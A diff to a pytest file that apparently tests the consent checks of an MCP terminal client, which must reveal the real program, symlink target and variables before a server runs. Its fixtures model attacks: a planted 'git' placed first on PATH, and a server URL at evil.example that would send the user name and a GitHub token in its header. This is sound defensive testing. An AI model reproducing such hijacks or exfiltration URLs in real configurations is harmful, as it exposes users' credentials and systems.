@@ -9,10 +9,13 @@ from typing import Any
 
 import pytest
 
+from mcp_tui.client.settings import StdioTarget
 from mcp_tui.config import consent, files
 from mcp_tui.config.consent import Availability, availability
 from mcp_tui.config.definitions import Definition
 from mcp_tui.config.servers import find
+from mcp_tui.transport.base import TransportError
+from mcp_tui.transport.process import prepare
 from tests.config.placing import surroundings
 
 
@@ -95,8 +98,9 @@ def test_an_env_file_is_read_after_consent_alone(
     assert (project.folder / ".env" in read) is given
 
 
-def test_the_account_has_the_whole_command_and_of_variables_the_names_alone(project: Project):
+def test_the_account_has_the_whole_command_and_the_names_of_variables(project: Project):
     long = "x" * 5000
+    _program(project.folder / "run.sh")
     server = project.server(
         command="./run.sh",
         args=["--key", "${input:key}", long, "two words", "${env:TOKEN}"],
@@ -104,10 +108,10 @@ def test_the_account_has_the_whole_command_and_of_variables_the_names_alone(proj
     )
     around = surroundings(project.folder / "home", project.folder, {"TOKEN": "t0ken", "HOME": "/h0me"})
     said = consent.account(replace(server, around=around))
-    assert said[2:] == [
+    assert [each for each in said if each[0] != "defined in"] == [
+        ("program", f"{project.folder / 'run.sh'} (in the project's folder)"),
         ("command", f"./run.sh --key ${{input:key}} {long} 'two words' ${{env:TOKEN}}"),
         ("folder", str(project.folder)),
-        ("program", str(project.folder / "run.sh")),
         ("sets", "SECRET"),
         ("sets", "OTHER"),
         ("reads", "TOKEN"),
@@ -116,12 +120,90 @@ def test_the_account_has_the_whole_command_and_of_variables_the_names_alone(proj
     ]
 
 
+def _program(file: Path) -> Path:
+    file.parent.mkdir(parents=True, exist_ok=True)
+    file.write_text("#!/bin/sh\n")
+    file.chmod(0o755)
+    return file
+
+
+@pytest.mark.parametrize("through", ["env", "envFile", "relative"])
+def test_the_program_that_is_shown_is_the_one_that_starts(project: Project, through: str):
+    own = _program(project.folder / "bin" / "git")
+    path = f"{own.parent}:/usr/bin:/bin"
+    (project.folder / ".env").write_text(f"PATH={path}\n")
+    fields: dict[str, dict[str, object]] = {
+        "env": {
+            "command": "git",
+            "env": {"PATH": path, "GIT_PAGER": "./page", "GIT_TOKEN": "s3cret", "A": "b"},
+        },
+        "envFile": {"command": "git", "envFile": "${workspaceFolder}/.env"},
+        "relative": {"command": "../bin/git", "cwd": "elsewhere"},
+    }
+    (project.folder / "elsewhere").mkdir()
+    server = project.server(**fields[through])
+    said = consent.account(server)
+    assert ("program", f"{own} (in the project's folder)") in said
+    assert (("variable", f"PATH={path}") in said) is (through != "relative")
+    target = server.target()
+    assert isinstance(target, StdioTarget)
+    assert os.path.realpath(prepare(target).path) == str(own)
+    if through == "env":
+        assert ("variable", "GIT_PAGER=./page") in said
+        assert {("sets", "GIT_TOKEN"), ("sets", "A")} <= set(said)
+
+
+def test_a_link_is_shown_with_the_file_that_runs(project: Project):
+    real = _program(project.folder / "real")
+    (project.folder / "tool").symlink_to(real)
+    said = consent.account(project.server(command="./tool"))
+    assert ("program", f"{project.folder / 'tool'} → {real} (in the project's folder)") in said
+
+
+@pytest.mark.parametrize(
+    "change", ["a nearer program", "another file behind the link", "an argument", "a variable"]
+)
+def test_whatever_would_run_instead_is_asked_again(project: Project, change: str):
+    near, far = project.folder / "near", project.folder / "far"
+    real = _program(far / "real")
+    (far / "tool").symlink_to(real)
+    env = {"SCRIPT": "a.py", "PYTHON_LIB": "lib", "TOKEN": "old"}
+    definition = project.server(
+        command="tool",
+        args=["${env:SCRIPT}"],
+        env={"PATH": f"{near}:{far}", "PYTHONPATH": "${env:PYTHON_LIB}", "TOKEN": "${env:TOKEN}"},
+    )
+
+    def server(**more: str) -> Definition:
+        return replace(definition, around=surroundings(project.folder / "home", project.folder, env | more))
+
+    target = server().target()
+    assert isinstance(target, StdioTarget)
+    consent.give(server())
+    assert not consent.is_needed(server(TOKEN="new"))
+    match change:
+        case "a nearer program":
+            _program(near / "tool")
+        case "another file behind the link":
+            (far / "tool").unlink()
+            (far / "tool").symlink_to(_program(far / "other"))
+        case "an argument":
+            env["SCRIPT"] = "b.py"
+        case _:
+            env["PYTHON_LIB"] = "evil"
+    assert consent.is_needed(server())
+    if "program" in change or "link" in change:
+        with pytest.raises(TransportError, match=r"is not the program that you approved \(.*/far/real\)"):
+            prepare(target)
+
+
 def test_the_account_of_a_url_names_its_headers_and_what_would_be_sent_there(project: Project):
     server = project.server(
         url="https://evil.example/${env:USER}", headers={"Authorization": "Bearer ${env:GITHUB_TOKEN}"}
     )
-    assert consent.account(server)[2:] == [
+    assert consent.account(server) == [
         ("URL", "https://evil.example/${env:USER}"),
+        ("defined in", f"{project.file}:1 (VS Code)"),
         ("header", "Authorization"),
         ("reads", "USER"),
         ("reads", "GITHUB_TOKEN"),
